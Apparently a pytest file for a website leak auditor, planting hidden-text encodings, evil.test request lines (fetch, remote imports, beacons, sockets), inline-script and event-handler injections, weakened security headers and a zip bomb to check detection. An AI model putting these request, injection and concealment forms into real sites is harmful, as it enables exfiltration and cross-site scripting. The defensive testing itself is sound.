"""The audit finds a hidden text in every form, and pages that have lost their guards.

All rows are planted together, each as a file of its own below ``assets/`` of the members' site, and
read by one audit.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import quopri
import re
import struct
import tarfile
import textwrap
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest

from audit.association import FACILITATOR, MEMBER, SENTENCE, Association, copy_sites
from audit.test_planted_leaks import HEAD, POLICY, archive, page, pdf
from parution.audit import Leak, LeakKind
from parution.language.catalogues import load_translations

WRAPPED = SENTENCE.replace(" ", "\n")
BASE64 = base64.b64encode(SENTENCE.encode()).decode()
DEFLATED = zlib.compress(SENTENCE.encode())
PNG = b"\x89PNG\r\n\x1a\n"

CYRILLIC = str.maketrans(dict(zip("aceopxy", "асеорху", strict=True)))
GREEK = str.maketrans(dict(zip("ovaei", "ονάει", strict=True)))
CAPITALS = str.maketrans(dict(zip("EATHOC", "ΕΑΤΗΟС", strict=True)))


def chunk(kind: bytes, data: bytes) -> bytes:
    checked = kind + data
    return struct.pack(">I", len(data)) + checked + struct.pack(">I", zlib.crc32(checked))


def png(*chunks: bytes, after: bytes = b"") -> bytes:
    """Return a picture of one point with other chunks, and bytes after its end."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    point = chunk(b"IDAT", zlib.compress(b"\0\0"))
    return PNG + head + b"".join(chunks) + point + chunk(b"IEND", b"") + after


def jpeg(remark: bytes) -> bytes:
    """Return a picture with a comment as cameras write it."""
    said = b"Exif\0\0II*\0\x08\0\0\0\x01\0" + remark
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(said) + 2) + said + b"\xff\xd9"


def font(signature: bytes, table: bytes) -> bytes:
    return signature + b"\0\x01\0\0\0\0\0\0name" + bytes(16) + table


def zip_file(name: str, data: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(name, data)
    return written.getvalue()


def tar_file(data: bytes) -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w:xz") as file:
        member = tarfile.TarInfo("x.txt")
        member.size = len(data)
        file.addfile(member, io.BytesIO(data))
    return written.getvalue()


SHOWN = b"BT (" + SENTENCE.encode("cp1252") + b") Tj ET\n"


def packed_pdf(filters: bytes, packed: bytes) -> bytes:
    """Return a PDF whose page is packed by filters."""
    head = b"%PDF-1.7\n1 0 obj\n<< /Filter " + filters + b" >>\nstream\n"
    return head + packed + b"\nendstream\nendobj\n"


def run_length(data: bytes) -> bytes:
    """Return bytes packed by run lengths: a run of four, then the others as they are."""
    rest = (data[at : at + 100] for at in range(0, len(data), 100))
    return b"\xfdaaaa"[:2] + b"".join(bytes((len(each) - 1,)) + each for each in rest) + b"\x80"


def lzw(data: bytes) -> bytes:
    """Return bytes packed as LZW in a PDF: codes grow one early (PDF 1.7, 7.4.4.2)."""
    table = {bytes((byte,)): byte for byte in range(256)}
    bits, word = f"{256:09b}", b""
    for byte in data:
        longer = word + bytes((byte,))
        if longer in table:
            word = longer
            continue
        bits += f"{table[word]:0{(len(table) + 3).bit_length()}b}"
        table[longer] = len(table) + 2
        word = bytes((byte,))
    bits += f"{table[word]:0{(len(table) + 3).bit_length()}b}"
    bits += f"{257:0{(len(table) + 4).bit_length()}b}"
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def in_tex() -> str:
    """Return the sentence with accents as BibTeX's programs write them."""
    apart = unicodedata.normalize("NFD", SENTENCE)
    commands = {"\u0301": "'", "\u0300": "`", "\u0302": "^"}
    return re.sub(
        f"(.)([{''.join(commands)}])", lambda found: f"{{\\{commands[found[2]]}{found[1]}}}", apart
    )


def rich_text() -> bytes:
    """Return the sentence as RTF that sets a part of each word in bold."""
    said = re.sub(r"(\w{3})(\w{2,})", r"\1{\\b \2}", SENTENCE).encode("cp1252")
    letters = re.sub(rb"[\x80-\xff]", lambda found: b"\\'" + found[0].hex().encode(), said)
    return b"{\\rtf1 " + letters + b"}"


def mail(text: str) -> bytes:
    return quopri.encodestring(text.encode())


def codes(form: str, text: str = SENTENCE) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


def octets(form: str, text: str = SENTENCE) -> str:
    return "".join(form.format(octet) for octet in text.encode())


def split_words(between: str) -> str:
    """Return the sentence with a text in the middle of every longer word."""
    return " ".join(
        f"{word[:3]}{between}{word[3:]}" if len(word) > 4 else word for word in SENTENCE.split()
    )


PLAIN: dict[str, bytes] = {
    "utf-16 with a mark.txt": SENTENCE.encode("utf-16"),
    "utf-16-le.txt": SENTENCE.encode("utf-16-le"),
    "utf-16-be.txt": SENTENCE.encode("utf-16-be"),
    "utf-16-be with a mark.txt": b"\xfe\xff" + SENTENCE.encode("utf-16-be"),
    "utf-32.txt": SENTENCE.encode("utf-32"),
    "utf-32-be.txt": SENTENCE.encode("utf-32-be"),
    "Windows' letters.txt": SENTENCE.encode("cp1252"),
    "letters read byte by byte.txt": SENTENCE.encode().decode("cp1252").encode(),
    "escaped bytes.js": octets(r"\x{:02x}").encode(),
    "escaped in octal.js": octets(r"\{:03o}").encode(),
    "escaped letters.js": codes(r"\x{:02x}", SENTENCE.replace("’", " ")).encode(),
    "escaped code points.js": codes(r"\u{{{:x}}}").encode(),
    "escaped twice.js": json.dumps(json.dumps(SENTENCE)).encode(),
    "escaped in a style.css": codes(r"\{:x} ").encode(),
    "in a style.css": f'p:after{{content:"{SENTENCE}"}}'.encode(),
    "in rich text.rtf": (
        b"{\\rtf1 " + SENTENCE.encode("cp1252").replace(b"\xe9", rb"\'e9")
    ),
    "in rich text, word by word.rtf": rich_text(),
    "accents of BibTeX.json": json.dumps(in_tex()).encode(),
    "capitals kept by BibTeX.txt": re.sub(r"\b(\w)", r"{\1}", SENTENCE).encode(),
    "put together by a program.js": '"+"'.join(textwrap.wrap(SENTENCE, 9)).encode(),
    "Base64.txt": BASE64.encode(),
    "Base64 for addresses.txt": base64.urlsafe_b64encode(SENTENCE.encode()).rstrip(b"="),
    "Base64 behind other letters.js": f'x="/a/{BASE64}"'.encode(),
    "Base64 in lines.txt": base64.encodebytes(SENTENCE.encode() * 2),
    "Base64 of utf-16.txt": base64.b64encode(SENTENCE.encode("utf-16-le")),
    "Base64 of gzip.json": base64.b64encode(gzip.compress(SENTENCE.encode())),
    "Base64 twice.txt": base64.b64encode(BASE64.encode()),
    "hexadecimal.txt": SENTENCE.encode().hex().encode(),
    "hexadecimal in capitals.txt": SENTENCE.encode().hex(" ").upper().encode(),
    "hexadecimal for C.txt": octets("0x{:02x}, ").encode(),
    "numbers of bytes.js": f"x=[{','.join(map(str, SENTENCE.encode()))}]".encode(),
    "numbers of letters.js": f"String.fromCharCode({codes('{}, ')}32)".encode(),
    "percent signs twice.txt": quote(quote(SENTENCE)).encode(),
    "quoted-printable.txt": mail(SENTENCE),
    "entities three times.txt": codes("&amp;amp;#{};").encode(),
    "zlib.bin": DEFLATED,
    "gzip.bin": gzip.compress(SENTENCE.encode()),
    "a name in gzip.bin": b"\x1f\x8b\x08\x08" + bytes(6) + SENTENCE.encode() + b"\0\3\0" + bytes(8),
    "gzip twice.bin": gzip.compress(gzip.compress(SENTENCE.encode())),
    "two gzip files in one.bin": gzip.compress(b"x") + gzip.compress(SENTENCE.encode()),
    "bzip2.bin": bz2.compress(SENTENCE.encode()),
    "xz.bin": lzma.compress(SENTENCE.encode()),
    "lzma.bin": lzma.compress(SENTENCE.encode(), format=lzma.FORMAT_ALONE),
    "a packed archive.bin": tar_file(SENTENCE.encode()),
    "zip in zip.zip": zip_file("a.zip", archive(SENTENCE)),
    "a PDF in zip.zip": zip_file("a.pdf", pdf(SENTENCE)),
    "letters for mail in a PDF.pdf": packed_pdf(b"/ASCII85Decode", base64.a85encode(SHOWN) + b"~>"),
    "letters for mail, packed, in a PDF.pdf": packed_pdf(
        b"[/A85 /Fl]", base64.a85encode(zlib.compress(SHOWN)) + b"~>"
    ),
    "digits in a PDF.pdf": packed_pdf(b"/ASCIIHexDecode", SHOWN.hex().encode() + b">"),
    "lengths of runs in a PDF.pdf": packed_pdf(b"/RunLengthDecode", run_length(SHOWN)),
    "an old PDF.pdf": packed_pdf(b"/LZWDecode", lzw(SHOWN * 30)),
    "a name in zip.zip": zip_file(SENTENCE, b"x"),
    "a remark in a picture.png": png(chunk(b"tEXt", b"Comment\0" + SENTENCE.encode("cp1252"))),
    "a packed remark in a picture.png": png(chunk(b"zTXt", b"Comment\0\0" + DEFLATED)),
    "a packed remark in utf-8.png": png(chunk(b"iTXt", b"Comment\0\1\0fr\0\0" + DEFLATED)),
    "a remark of a camera in a picture.png": png(chunk(b"eXIf", SENTENCE.encode("utf-16-le"))),
    "behind a picture.png": png(after=archive(SENTENCE)),
    "a remark of a camera.jpg": jpeg(SENTENCE.encode("utf-16-le")),
    "a remark of another camera.jpg": jpeg(b"UNICODE\0" + SENTENCE.encode("utf-16-be")),
    "packed in a sound.mp3": b"ID3\3\0\0\0" + bytes(20) + DEFLATED,
    "a name in a font.ttf": font(b"\0\1\0\0", SENTENCE.encode("utf-16-be")),
    "a name in a packed font.woff": font(b"wOFF", zlib.compress(SENTENCE.encode("utf-16-be"))),
    "one word a line.txt": WRAPPED.encode(),
    "one word a line, of Windows.txt": WRAPPED.replace("\n", "\r\n").encode(),
    "three words a line.txt": "\n\n".join(
        " ".join(SENTENCE.split()[at : at + 3]) for at in range(0, 30, 3)
    ).encode(),
    "one word a string.json": json.dumps(SENTENCE.split(), indent=1).encode(),
    "zero-width signs.txt": split_words("\u200b").encode(),
    "other unseen signs.txt": split_words("\u2063\ufe0f\u034f\u180e\u202e").encode(),
    "unseen signs as entities.txt": split_words("&ZeroWidthSpace;&#8203;&shy;").encode(),
    "Cyrillic letters.txt": SENTENCE.translate(CYRILLIC).encode(),
    "Greek letters.txt": SENTENCE.translate(GREEK).encode(),
    "foreign capitals.txt": SENTENCE.upper().translate(CAPITALS).encode(),
    "wide letters.txt": SENTENCE.translate({n: n + 0xFEE0 for n in range(0x61, 0x7B)}).encode(),
    "letters for formulas.json": json.dumps(
        SENTENCE.translate({n: n - 0x61 + 0x1D41A for n in range(0x61, 0x7B)})
    ).encode(),
    "small capitals.txt": SENTENCE.replace("a", "\u1d00").replace("e", "\u1d07").encode(),
    "the description of a drawing.svg": f"<svg><desc>{SENTENCE}</desc></svg>".encode(),
    "the title of a drawing.svg": f'<svg aria-label="{SENTENCE}"/>'.encode(),
}  # fmt: skip
"""Files that hold a sentence of the dossier."""

WITHIN_PAGES: dict[str, str] = {
    "tags inside words": split_words("<b></b>"),
    "tags with attributes inside words": split_words('<span class="x y">'),
    "a comment inside words": split_words("<!-- -->"),
    "one word a section of data": " ".join(f"<![CDATA[{w}]]>" for w in SENTENCE.split()),
    "a break inside words": f"<p>x</p><div>{split_words('<wbr>')}</div><p>y</p>",
    "every letter in a tag": "".join(
        f"<i>{letter}</i>" if letter != " " else " " for letter in SENTENCE
    ),
    "one word a tag": "".join(f"<li>{word}</li>" for word in SENTENCE.split()),
    "one word a paragraph": "\n".join(f"<p>\n{word}\n</p>" for word in SENTENCE.split()),
    "one word an attribute": "".join(
        f'<i class="x" data-a="{word}"></i>' for word in SENTENCE.split()
    ),
    "an attribute over lines": f'<p title="{WRAPPED}">x</p>',
    "a comment over lines": f"<!--\n{WRAPPED}\n-->",
    "Base64 in an attribute": f'<p data-a="{BASE64}">x</p>',
    "in a drawing": f"<svg><desc>{SENTENCE}</desc></svg>",
    "in a style": f"<style>p:after{{content:'{SENTENCE}'}}</style>",
    "in a template": f"<template>{SENTENCE}</template>",
    "in a field": f'<input type="hidden" value="{SENTENCE}">',
}
"""Places within a page that hold a sentence of the dossier."""

REQUESTS: dict[str, bytes] = {
    "fetch.js": b"fetch('https://evil.test/x')",
    "fetch from a variable.js": b'const a = "https://evil.test/x"; fetch(a)',
    "fetch without a scheme.js": b"fetch(`//evil.test/${x}`)",
    "an import.js": b'import x from "https://evil.test/x.js"',
    "an import while it runs.js": b"await import('https://evil.test/x.js')",
    "what a worker imports.js": b'importScripts("https://evil.test/x.js")',
    "a beacon.js": b'navigator.sendBeacon("https:\\/\\/evil.test/x", "")',
    "a socket.js": b'new WebSocket("wss://evil.test")',
    "a stream of events.js": b'new EventSource("HTTPS://evil.test")',
    "a picture.js": b"new Image().src = '\\x68ttps://evil.test/x'",
    "a module.mjs": b'export * from "https://evil.test/x.js"',
    "an icon.webmanifest": b'{"icons": [{"src": "https://evil.test/x.png"}]}',
    "a style sheet of a drawing.svg": b'<?xml-stylesheet href="https://evil.test/x.css"?><svg/>',
    "a picture of a drawing.svg": b'<svg><image href="https://evil.test/x.png"/></svg>',
    "an address that all others start from.html": page('<base href="https://evil.test/">'),
    "a connection ahead.html": page('<link rel="dns-prefetch" href="//evil.test">'),
    "a page within.html": page('<iframe src="https://evil.test"></iframe>'),
    "a form.html": page('<form action="https://evil.test"></form>'),
    "another page after a while.html": page(
        '<meta http-equiv="refresh" content="0;url=https://evil.test">'
    ),
    "an import of a style.html": page("<style>@import 'https://evil.test/x.css'</style>"),
}  # fmt: skip
"""Files that make a browser ask another host for something."""

ALL_OTHERS = HEAD.removeprefix(POLICY)
"""All guards but the policy."""

UNGUARDED: dict[str, str] = {
    "no policy": ALL_OTHERS,
    "a policy in a comment": f"<!-- {POLICY} -->{ALL_OTHERS}",
    "a policy that comes late": f'<script src="x.js"></script>{HEAD}',
    "a policy that lets in scripts": HEAD.replace("style-src", "script-src"),
    "a policy that lets in hosts": HEAD.replace("img-src", "img-src https:"),
    "a policy that reports": HEAD.replace("img-src", "report-uri https://evil.test; img-src"),
    "a policy for reports alone": HEAD.replace("Security-Policy", "Security-Policy-Report-Only"),
    "a policy without a rule": HEAD.replace("default-src", "img-src"),
    "a policy that an earlier one undoes": f"{POLICY.replace('self', 'unsafe-inline')}{HEAD}",
    "a second referrer": f'{HEAD}<meta name="referrer" content="unsafe-url">',
    "a second referrer in capitals": f'{HEAD}<META NAME="Referrer" CONTENT="origin">',
    "a referrer in a comment": HEAD.replace('<meta name="referrer"', '<!-- <meta name="referrer"'),
    "a referrer for one link": f'{HEAD}<link referrerpolicy="unsafe-url" rel="icon" href="x">',
    "a second word to robots": f'{HEAD}<meta name="googlebot" content="all">',
}
"""Heads of pages that lack a guard."""

PROGRAMS: dict[str, bytes] = {
    "an inline script.html": page("<script>x()</script>"),
    "an inline module.html": page('<script type="module">import "./x.js"</script>'),
    "a script in a drawing.html": page("<svg><script>x()</script></svg>"),
    "a script in the data.html": page('<script id="__config">x()</script>'),
    "a script in its address.html": page('<script src="data:text/javascript,x()"></script>'),
    "an event handler.html": page('<img src="x" onerror="x()">'),
    "an event handler without quotes.html": page("<body/onload=x()>"),
    "an event handler in capitals.html": page("<p ONCLICK = 'x()'>"),
    "a program in a link.html": page('<a href="javascript:x()">x</a>'),
    "a disguised program in a link.html": page('<a href=" java\nscript&colon;x()">x</a>'),
    "a program in a form.html": page('<form action="javascript:x()"></form>'),
    "a page within.html": page('<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>'),
    "a tree of its own.html": page(
        '<p><template shadowrootmode="open"><script>x()</script></template></p>'
    ),
    "a drawing.svg": b"<svg><script>x()</script></svg>",
    "a drawing with an event handler.svg": b'<svg onload="x()"/>',
    "a drawing with a link.svg": b'<svg><a xlink:href="javascript:x()"/></svg>',
    "a feed.xml": b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>',
}
"""Files that hold a program."""

UNREADABLE: dict[str, bytes] = {
    "packed in an unknown way.br": bytes.fromhex(
        "1b6e00e02fdbc6b05db0c5d1e0dc2e4d8fa7a2c4c3a0c4e7"
    ),
    "numbers.bin": bytes(range(256)),
    "packed once too often.bin": gzip.compress(gzip.compress(gzip.compress(gzip.compress(
        gzip.compress(gzip.compress(SENTENCE.encode())))))),
    "broken.zip": archive(SENTENCE)[:-40],
    "broken xz.bin": lzma.compress(SENTENCE.encode())[:-20],
}  # fmt: skip
"""Files that the audit cannot read."""

OF_NO_SITE = (
    "x",
    "x.html.fr",
    "x.html.gz",
    "x.mht",
    "x.php",
    "x.shtml",
    "x.svgz",
    "x.xht",
    "x.xsl",
)
"""Names of files that a host runs, or that a browser shows as a page."""

ROWS: dict[str, tuple[bytes, LeakKind]] = {
    **{name: (data, LeakKind.HIDDEN_TEXT) for name, data in PLAIN.items()},
    **{f"{name}.html": (page(text), LeakKind.HIDDEN_TEXT) for name, text in WITHIN_PAGES.items()},
    **{f"asks/{name}": (data, LeakKind.THIRD_PARTY) for name, data in REQUESTS.items()},
    **{f"{name}.html": (page("x", head), LeakKind.UNGUARDED) for name, head in UNGUARDED.items()},
    **{f"runs/{name}": (data, LeakKind.SCRIPT) for name, data in PROGRAMS.items()},
    **{name: (data, LeakKind.UNREADABLE) for name, data in UNREADABLE.items()},
    **dict.fromkeys(OF_NO_SITE, (b"x", LeakKind.UNKNOWN_FILE)),
}

SPLIT: dict[str, Callable[[str], bytes]] = {
    "in capitals.txt": lambda letters: letters.upper().encode(),
    "in Base64.txt": lambda letters: base64.b64encode(letters.encode()),
    "in hexadecimal.txt": lambda letters: letters.encode().hex().encode(),
    "in utf-16.txt": lambda letters: letters.encode("utf-16-le"),
    "put together.js": lambda letters: f'x = "{letters[:9]}" + "{letters[9:]}"'.encode(),
    "with gaps.txt": lambda letters: " ".join(letters).encode(),
    "with dashes.txt": lambda letters: f"{letters[:12]}-{letters[12:]}".encode(),
    "with a tag.html": lambda letters: page(f"{letters[:9]}<b class='x'>{letters[9:]}</b>"),
    "with unseen signs.txt": lambda letters: "\u200b".join(letters).encode(),
    "over lines.txt": lambda letters: f"{letters[:9]}\n{letters[9:]}".encode(),
    "backwards.txt": lambda letters: letters[::-1].encode(),
    "backwards in a page.html": lambda letters: page(f"<p dir=rtl>{letters[::-1]}</p>"),
    "with references.html": lambda letters: page("&shy;".join((letters[:9], letters[9:]))),
    "in a value and after it.html": lambda letters: page(
        f'<b title="{letters[:9]}" id="x">{letters[9:]}</b>'
    ),
    "in two values.html": lambda letters: page(
        f'<b title="{letters[:9]}">.</b><i title="{letters[9:]}">.</i>'
    ),
    "beside a picture.png": lambda letters: png(
        chunk(b"zTXt", b"x\0\0" + zlib.compress(letters.encode()))
    ),
    "in a camera's remark.jpg": lambda letters: jpeg(b"UNICODE\0" + letters.encode("utf-16-le")),
    "in an archive in an archive.zip": lambda letters: zip_file(
        "b.zip", zip_file("a.txt", letters.encode())
    ),
    "in a note of a PDF.pdf": lambda letters: (
        b"%PDF-1.4\n<</Contents<" + letters.encode("utf-16-be").hex().encode() + b">>>"
    ),
}
"""Ways for a file to hold random letters in pieces."""


@pytest.fixture(scope="module")
def leaks(built: Association) -> tuple[Leak, ...]:
    """The leaks that one audit finds in a site with every row planted."""
    association = copy_sites(built)
    planted = {name: data for name, (data, _) in ROWS.items()}
    secret = association.store.secret().decode()
    other = association.folder(FACILITATOR).name.rpartition("-")[2]
    for name, told_by in SPLIT.items():
        planted[f"secret/{name}"] = told_by(secret)
        planted[f"token/{name}"] = told_by(other)
    for name, data in planted.items():
        path = association.folder(MEMBER) / "assets" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return association.leaks()


@pytest.mark.parametrize("name", ROWS)
def test_a_disguise_is_seen_through(leaks: tuple[Leak, ...], name: str) -> None:
    """The audit finds every disguised leak, and its kind."""
    assert ROWS[name][1] in {leak.kind for leak in leaks if leak.file == f"assets/{name}"}


@pytest.mark.parametrize("name", SPLIT)
def test_the_secret_is_known_in_pieces(leaks: tuple[Leak, ...], name: str) -> None:
    """The audit finds the master secret encoded or in pieces, and never repeats it."""
    found = [leak for leak in leaks if leak.file == f"assets/secret/{name}"]
    assert LeakKind.SECRET in {leak.kind for leak in found}
    assert not any(leak.evidence for leak in found)


@pytest.mark.parametrize("name", SPLIT)
def test_an_address_is_known_in_pieces(leaks: tuple[Leak, ...], name: str) -> None:
    """The audit finds another site's address encoded or in pieces, and never repeats it."""
    found = [leak for leak in leaks if leak.file == f"assets/token/{name}"]
    assert LeakKind.OTHER_SITE in {leak.kind for leak in found}
    assert not any(leak.evidence for leak in found)


def packed(content: bytes, *, times: int = 1) -> bytes:
    """Return a document of a word processor that holds a content, packed so many times."""
    for _ in range(times):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("word/document.xml", content)
        content = stream.getvalue()
    return content


UNREAD = {
    "bomb.docx": (packed(bytes(65 * 1024 * 1024)), "il dépasse 64 Mo"),
    "nested.docx": (packed(b"x", times=7), "trop de fois compressé"),
    "damaged.docx": (packed(SENTENCE.encode()).replace(b"PK\1\2", b"PK\0\0"), "est abîmé"),
    "unknown.bin": (bytes(range(32)), "ni un texte"),
}
"""Files that nobody can look into, and the reason in French."""


@pytest.fixture(scope="module")
def unread(built: Association) -> dict[str, Leak]:
    """The leaks of files that cannot be looked into, by name."""
    association = copy_sites(built)
    folder = association.folder(MEMBER) / "assets"
    folder.mkdir(exist_ok=True)
    for name, (data, _) in UNREAD.items():
        (folder / name).write_bytes(data)
    found = (leak for leak in association.leaks() if leak.kind is LeakKind.UNREADABLE)
    return {leak.file.removeprefix("assets/"): leak for leak in found}


@pytest.mark.parametrize("name", UNREAD)
def test_a_file_that_is_not_looked_into_is_explained(unread: dict[str, Leak], name: str) -> None:
    """The finding says why: a bomb, a damaged archive, bytes of no known kind."""
    said = unread[name].explain().text(load_translations("fr").gettext)
    assert UNREAD[name][1] in said.replace("\u00a0", " ")


HARMLESS: dict[str, bytes] = {
    "data.html": page('<script id="__config" type="application/json">{"base": "./"}</script>'),
    "a script of the site.html": page('<script src="../assets/x.js" type="module"></script>'),
    "a stricter policy.html": page("x", HEAD.replace("default-src 'self'", "default-src 'none'")),
    "words that begin as handlers do.html": page('<p class="on" title="on verra = oui">x</p>'),
    "a namespace.js": b'x = "http://www.w3.org/2000/svg"',
    "an address of the site.js": b'x = "https://dossiers.example.org/x"; // see "https" //x',
    "a picture.png": png(chunk(b"iTXt", b"Comment\0\1\0fr\0\0" + zlib.compress(b"rien"))),
    "digests.json": json.dumps([hashlib.sha256(bytes(n)).hexdigest() for n in range(9)]).encode(),
    "Windows' letters.txt": "déjà vu".encode("cp1252"),
    "a style.css": b'p{background:url("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB")}',
}  # fmt: skip


def test_a_lookalike_is_no_leak(association: Association) -> None:
    """Data, scripts in files, pictures, digests and names of languages are no leaks."""
    folder = association.folder(MEMBER) / "assets"
    folder.mkdir(exist_ok=True)
    for name, data in HARMLESS.items():
        (folder / name).write_bytes(data)
    assert association.leaks() == ()
